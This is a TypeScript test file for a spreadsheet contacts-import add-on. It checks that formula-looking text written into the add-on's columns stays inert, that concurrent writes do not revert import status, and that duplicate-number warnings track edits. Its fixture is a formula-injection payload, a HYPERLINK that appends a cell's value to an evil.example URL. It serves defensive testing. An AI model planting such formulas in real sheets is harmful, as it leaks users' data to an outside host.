/**
 * What the add-on writes into its own columns, through the production bundle: formula-looking
 * text stays text whoever writes it (review, slice flushes, onEdit), a write never reverts
 * an Import Status a slice wrote meanwhile, and onEdit keeps duplicate messages right as
 * identifiers change.
 */
import {
  column,
  importAll,
  setUp,
  startAddon,
  withAddon,
  type Addon,
} from '../support/addon-harness';
import { contactsTab, editCells } from '../support/contacts-tab';
import { formulaHeaderRow, setUpFormulaHeaderTab } from '../support/formula-header';

/** A header a hostile sheet might carry; the Error column quotes it. */
const EVIL = '=HYPERLINK("http://evil.example/?q="&A3,"x")';
const ROWS = 40;

function hostileSheet(): unknown[][] {
  // The header cell holds the formula-looking text as text (typed with an apostrophe).
  const out: unknown[][] = [formulaHeaderRow(EVIL)];
  for (let i = 0; i < ROWS; i++) {
    // Every third row has a broken email: its Error cell starts with the header, "=HYPERLINK…".
    out.push([`Name${i}`, `+6013${2_000_000 + i}`, i % 3 === 1 ? `bad${i}` : `p${i}@example.com`]);
  }
  return out;
}

/** Every owned cell that is a formula, and every Error cell quoting the header. */
function ownedCells(addon: Addon) {
  const s = addon.fakes.spreadsheet.sheetState('Contacts');
  const header = s.values[0]!;
  const owned = ['Error', 'Import Status', 'Contact ID', 'Import Fingerprint', 'Error Cells'].map(
    (h) => header.indexOf(h),
  );
  const formulas: string[] = [];
  for (let r = 1; r < s.values.length; r++)
    for (const c of owned) if (s.formulas[r]?.[c]) formulas.push(`R${r + 1}C${c + 1}`);
  const quoting = column(addon, 'Error').filter((e) => String(e).startsWith(EVIL));
  return { formulas, quoting: quoting.length };
}

describe('formula-looking text in owned cells', () => {
  let addon: Addon;
  beforeAll(async () => {
    // A slow workspace: the rows go over many slices, so flushes land between earlier ones.
    addon = await startAddon({ Sheet1: [] }, ['--seed', 'empty', '--rate', '20'], { sliceMs: 150 });
    setUpFormulaHeaderTab(addon, EVIL, hostileSheet().slice(1));
  }, 60_000);
  afterAll(() => addon.stop());

  test('stays text after review, import flushes and onEdit', () => {
    addon.call('reviewSheet');
    expect(ownedCells(addon)).toEqual({ formulas: [], quoting: 13 });

    // Several slices, several flushes: each rewrites rows between others' Error cells.
    const { progress, callsPerSlice } = importAll(addon);
    expect(progress.status).toBe('completed');
    expect(callsPerSlice.length).toBeGreaterThan(1);
    expect(ownedCells(addon)).toEqual({ formulas: [], quoting: 13 });

    // Edits after the import: a name on a flagged row, then a paste over rows 5–7 that breaks
    // the emails of rows 5 and 7 around row 6's, which stays as broken as it was.
    editCells(addon, 3, 1, 'Renamed');
    editCells(addon, 5, 3, ['broken-now', 'bad4', 'broken-too']);
    const after = ownedCells(addon);
    expect(after.formulas).toEqual([]);
    expect(after.quoting).toBe(15);
    const s = addon.fakes.spreadsheet.sheetState('Contacts');
    for (const row of [5, 6, 7])
      expect(s.values[row - 1]![s.values[0]!.indexOf('Error')]).toMatch(/^=HYPERLINK\(.*: /);
  }, 120_000);
});

describe('writes beside a running slice', () => {
  test('an onEdit that read before a slice wrote never reverts its Import Status', async () => {
    await withAddon({ Sheet1: [] }, ['--seed', 'empty'], (addon) => {
      addon.fakes.spreadsheet.seedSheet('Contacts', hostileSheet().slice(0, 8), { typed: true });
      setUp(addon, { purpose: 'add-update', identifier: 'phone', importTag: null });
      addon.call('reviewSheet');
      const tab = contactsTab(addon);
      const header = addon.fakes.spreadsheet.sheetState('Contacts').values[0]!;
      const at = (h: string) => header.indexOf(h) + 1;

      // A slice's flush lands while onEdit runs: after onEdit read the row, before it writes.
      let landed = false;
      const calls = addon.fakes.calls;
      const record = calls.record.bind(calls);
      calls.record = (className: string, method: string) => {
        record(className, method);
        if (landed || calls.paused || className !== 'Range' || method !== 'setValues') return;
        landed = true;
        addon.fakes.uncounted(() => {
          tab.getRange(3, at('Import Status')).setValue('Imported');
          tab.getRange(3, at('Contact ID')).setValue(4242);
          tab.getRange(3, at('Import Fingerprint')).setValue('f00d@r1');
        });
      };
      try {
        editCells(addon, 3, 1, ''); // row 3's first name emptied: its Error changes
      } finally {
        calls.record = record;
      }
      expect(landed).toBe(true);
      const s = addon.fakes.spreadsheet.sheetState('Contacts');
      expect(s.values[2]![at('Import Status') - 1]).toBe('Imported');
      expect(s.values[2]![at('Contact ID') - 1]).toBe(4242);
      expect(s.values[2]![at('Import Fingerprint') - 1]).toBe('f00d@r1');
    });
  }, 60_000);
});

describe('duplicates as identifiers change (onEdit)', () => {
  test('appear, move and disappear with the edited identifier', async () => {
    await withAddon({ Sheet1: [] }, ['--seed', 'empty'], (addon) => {
      addon.fakes.spreadsheet.seedSheet('Contacts', hostileSheet().slice(0, 12), { typed: true });
      setUp(addon, { purpose: 'add-update', identifier: 'phone', importTag: null });
      const errors = () => column(addon, 'Error').map((e) => String(e));
      const mobile = (i: number) => `+6013${2_000_000 + i}`;
      editCells(addon, 2, 3, 'p0@example.com'); // not reviewed yet: nothing happens
      addon.call('reviewSheet');
      const clean = (rows: number[]) =>
        rows.forEach((row) => expect(errors()[row - 2]).not.toMatch(/same number/));

      editCells(addon, 9, 2, mobile(2)); // row 9 takes row 4's number
      expect(errors()[9 - 2]).toMatch(/^Mobile: same number as row 4 — keep one/);
      expect(errors()[4 - 2]).toMatch(/^Mobile: same number as row 9 — keep one/);

      editCells(addon, 11, 2, mobile(2)); // a third copy: all three name the others
      expect(errors()[4 - 2]).toMatch(/same number as rows 9, 11/);
      expect(errors()[9 - 2]).toMatch(/same number as rows 4, 11/);
      expect(errors()[11 - 2]).toMatch(/same number as rows 4, 9/);

      editCells(addon, 9, 2, mobile(7)); // row 9 back to its own: the other two remain
      clean([9]);
      expect(errors()[4 - 2]).toMatch(/same number as row 11 — keep one/);
      expect(errors()[11 - 2]).toMatch(/same number as row 4 — keep one/);

      editCells(addon, 3, 1, 'Someone'); // a name elsewhere: the pair stays flagged
      expect(errors()[4 - 2]).toMatch(/same number as row 11/);

      editCells(addon, 11, 2, mobile(9)); // the last copy goes: nobody is flagged
      clean([4, 9, 11]);
    });
  }, 60_000);
});
